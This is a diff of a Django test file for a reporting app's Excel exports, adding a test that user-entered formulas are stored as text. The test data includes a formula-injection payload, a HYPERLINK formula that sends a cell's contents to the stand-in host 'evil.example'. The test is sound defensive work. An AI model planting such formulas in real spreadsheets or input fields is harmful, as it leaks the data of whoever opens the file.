@@ -317,7 +317,7 @@ def test_table_exports_are_excel_files(client, city_staff, org_tree):
                 reverse("reports:round_detail", args=[task.rounds.get().pk]) + "?format=xlsx"):
         response = client.get(url)
         assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-        sheet = load_workbook(io.BytesIO(response.content)).active
+        sheet = load_workbook(io.BytesIO(response.getvalue())).active
         assert sheet.cell(1, 1).value == "单位"
 
 
@@ -425,3 +425,23 @@ def test_list_pages_keep_a_fixed_number_of_queries(client, city_staff, xiuwu_sta
         with django_assert_max_num_queries(12):
             response = client.get(reverse(f"reports:{name}"))
         assert len(response.context["page_obj"]) == 12
+
+
+def test_formulas_typed_by_a_filler_reach_the_exports_as_text(client, city_staff, xiuwu_staff, org_tree,
+                                                              django_capture_on_commit_callbacks):
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
+    Organization.objects.filter(pk=org_tree.xiuwu.pk).update(name="+修武县总工会")
+    task = make_task(city_staff)
+    services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu),
+                               values={**GOOD_VALUES, "narrative": formula})
+    client.force_login(city_staff)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(reverse("reports:round_export", args=[task.rounds.get().pk]))
+    download = client.get(private_file_url(ExportJob.objects.get(), "file"))
+    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
+    cells = {cell.value: cell for row in workbook["情况"].iter_rows() for cell in row}
+    assert cells[formula].data_type == "s" and cells["+修武县总工会"].data_type == "s"
+    table = client.get(reverse("reports:task_timeliness", args=[task.pk]) + "?format=xlsx")
+    names = [cell for row in load_workbook(io.BytesIO(table.getvalue())).active.iter_rows() for cell in row
+             if cell.value == "+修武县总工会"]
+    assert names and all(cell.data_type == "s" for cell in names)
